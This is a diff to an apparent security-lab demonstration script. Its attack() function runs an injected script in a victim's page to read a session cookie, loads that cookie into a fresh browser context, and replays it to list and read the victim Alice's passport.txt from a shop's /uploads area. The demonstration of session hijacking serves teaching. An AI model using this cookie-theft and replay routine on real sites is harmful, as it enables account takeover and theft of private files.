@@ -21,11 +21,16 @@ def attack(lab: Lab) -> str:
         with lab.browser(alice) as page:
             page.goto(f"{shop.url}/uploads")
             loot = page.evaluate(SCRIPT)
-        print(f"The script reads {SCRIPT}, and gets: {loot[:60] or 'nothing'}")
-        if not loot:
-            return ""
+            print(f"The script reads {SCRIPT}, and gets: {loot[:60] or 'nothing'}")
+            if not loot:
+                return ""
+            print("The thief puts it into his own browser, and opens /uploads.")
+            name, _, value = loot.partition("=")
+            page.context.clear_cookies()  # so this is his browser now
+            page.context.add_cookies([{"name": name, "value": value, "url": shop.url, "secure": True}])
+            page.goto(f"{shop.url}/uploads")
+            page.evaluate("scrollTo(0, document.body.scrollHeight)")
         thief = shop.visitor()
-        print("The thief puts it into his own browser, and opens /uploads.")
         listed = thief.get("/uploads", Cookie=loot, Accept="application/json").json().get("files", [])
         content = thief.get(f"/uploads/{listed[0]['id']}", Cookie=loot).text if listed else ""
     return f"The thief has read Alice's passport.txt: {content}" if content else ""
